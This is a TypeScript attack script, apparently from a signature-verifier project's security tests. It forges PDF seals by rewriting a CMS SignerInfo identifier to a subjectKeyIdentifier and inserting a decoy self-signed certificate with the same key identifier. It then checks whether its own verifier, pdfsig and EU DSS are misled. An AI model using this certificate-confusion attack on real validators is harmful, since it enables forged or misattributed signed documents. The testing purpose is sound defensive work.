// a19 (1ea770a): a subjectKeyIdentifier sid now matches a certificate's SKI extension. Rewrite the genuine seal
// SignerInfo's sid (unsigned) to a [0] subjectKeyIdentifier equal to the seal certificate's SKI, and add a decoy
// certificate (self-signed, attacker's key) whose SKI extension is the same value.
//   npx tsx scripts/attack-s14/ski-twin.ts [plain|twin-last|twin-first|twin-names-first]
// plain: only the sid rewritten (control: a genuine SKI-sid seal); twin-*: the decoy added after/before the CMS's
// certificates; -names: the decoy carries the seal's subject. tsa-*: the same in the seal's signature timestamp token
// (the TSA's SignerInfo and certificates; the token is an unsigned attribute). REAL=1 the real archive, DSS=1 EU DSS.
import * as asn1js from "asn1js";
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as pkijs from "pkijs";
import { dss, save, sealGap, show, tool, verify, withSealContents, work } from "../attack36/lib.js";
import { mapUnsignedAttribute, withCmsField } from "../attack-s8/lib.js";
import { selfSignedWithSki, setElements, signedDataFields } from "../attack-s9/lib.js";
import { encode, raw, seq } from "../generator/der.js";
import { derChildren, readTlv } from "../../src/pki/der.js";

const mode = process.argv[2] ?? "twin-first";
if (!["plain", "twin-last", "twin-first", "twin-names-first", "ias-twin-first", "tsa-plain", "tsa-twin-first"].includes(mode))
  throw new Error("usage: [plain|twin-last|twin-first|twin-names-first|ias-twin-first|tsa-plain|tsa-twin-first]");
const REAL = process.env.REAL === "1" ? "test/fixtures/real/broker-example" : undefined;
const AT = "2025-12-08T09:35:10Z";
const pdf = new Uint8Array(readFileSync(REAL ? `${REAL}/archive.pdf` : "samples/valid/archive.pdf"));
const cms = sealGap(pdf).der;

/** `contentInfo` with its first SignerInfo's sid rewritten to its certificate's SKI, and a decoy with that SKI added. */
function twin(contentInfo: Uint8Array, kind: string): Uint8Array {
  // The seal certificate: the one the genuine SignerInfo's issuerAndSerialNumber names.
  const ci = pkijs.ContentInfo.fromBER(contentInfo);
  const sd = new pkijs.SignedData({ schema: ci.content });
  const si0 = sd.signerInfos[0]!;
  const ias = si0.sid as pkijs.IssuerAndSerialNumber;
  const sealCert = (sd.certificates as pkijs.Certificate[]).find(
    (c) => c instanceof pkijs.Certificate && Buffer.from(c.serialNumber.valueBlock.valueHexView).equals(Buffer.from(ias.serialNumber.valueBlock.valueHexView)),
  )!;
  const skiExt = sealCert.extensions!.find((e) => e.extnID === "2.5.29.14")!;
  const ski = Buffer.from((skiExt.parsedValue as asn1js.OctetString).valueBlock.valueHexView);
  console.log(`signer certificate SKI ${ski.toString("hex")}`);

  const tmp = mkdtempSync(`${tmpdir()}/a19-ski-`);
  const IAS = kind === "ias-twin-first";
  const dn = (n: pkijs.RelativeDistinguishedNames) =>
    n.typesAndValues
      .map(
        (t) =>
          `/${{ "2.5.4.6": "C", "2.5.4.7": "L", "2.5.4.10": "O", "2.5.4.3": "CN", "2.5.4.5": "serialNumber", "2.5.4.97": "organizationIdentifier" }[t.type] ?? t.type}=${t.value.valueBlock.value}`,
      )
      .join("");
  const subj = IAS
    ? dn(sealCert.issuer)
    : kind === "twin-names-first"
      ? sealCert.subject.typesAndValues
          .map(
            (t) =>
              `/${{ "2.5.4.6": "C", "2.5.4.10": "O", "2.5.4.3": "CN", "2.5.4.5": "serialNumber", "2.5.4.97": "organizationIdentifier" }[t.type] ?? t.type}=${t.value.valueBlock.value}`,
          )
          .join("")
      : "/C=DK/O=Other Transact/CN=Other Transact ST";
  console.log(`decoy subject ${subj}`);
  const decoy = selfSignedWithSki(
    tmp,
    subj,
    ski.toString("hex"),
    IAS ? ["-set_serial", `0x${Buffer.from(sealCert.serialNumber.valueBlock.valueHexView).toString("hex")}`] : [],
  );

  const withCert = kind === "plain" ? contentInfo : withCmsField(contentInfo, 0xa0, [decoy], kind !== "twin-last");
  const f = signedDataFields(withCert);
  const mine = setElements(f.fields.at(-1)!);
  const own = mine[0]!;
  const t = readTlv(own, 0, own.length)!;
  const parts = derChildren(own, t.body, t.end)!.map((x) => own.subarray(x.start, x.end));
  const sid = encode(new asn1js.Primitive({ idBlock: { tagClass: 3, tagNumber: 0 }, valueHex: ski }));
  const version = encode(new asn1js.Integer({ value: 3 }));
  const rewritten = encode(seq(raw(version), raw(sid), ...parts.slice(2).map(raw)));
  if (IAS) return f.rebuild(f.fields); // ias-twin-first: the sid stays issuerAndSerialNumber, the decoy has the same
  f.fields[f.fields.length - 1] = encode(new asn1js.Set({ value: [rewritten, ...mine.slice(1)].map(raw) }));
  // SignedData version 3 when a SignerInfo is version 3 (RFC 5652 5.1)
  f.fields[0] = encode(new asn1js.Integer({ value: 3 }));
  return f.rebuild(f.fields);
}
const TSA = mode.startsWith("tsa-");
const signed = TSA ? mapUnsignedAttribute(cms, "1.2.840.113549.1.9.16.2.14", (token) => twin(token, mode.slice(4))) : twin(cms, mode);
const bytes = withSealContents(pdf, signed);
const file = save(work(`s14-ski-${REAL ? "real-" : ""}${mode}`), "archive.pdf", bytes);
console.log(`wrote ${file}`);
const v = REAL ? verify(file, ["--at", AT], "", `${REAL}/trust`) : verify(file);
show(`ski-twin ${mode}`, v);
for (const id of ["seal-signature", "seal-certificate", "seal-timestamp"]) {
  const c = (v.report.checks as { id: string; status: string; message: string }[]).find((x) => x.id === id);
  console.log(`   ${id}: ${c?.status} ${c?.message.slice(0, 300)}`);
}
const sig = tool("pdfsig", [file])
  .split("\n")
  .filter((l) => /Common Name|Validation|Total document/.test(l));
console.log(`== pdfsig: ${sig.map((l) => l.trim()).join(" | ")}`);
if (process.env.DSS === "1") dss(file, REAL ? AT : undefined, REAL ? `${REAL}/trust` : "samples/trust");
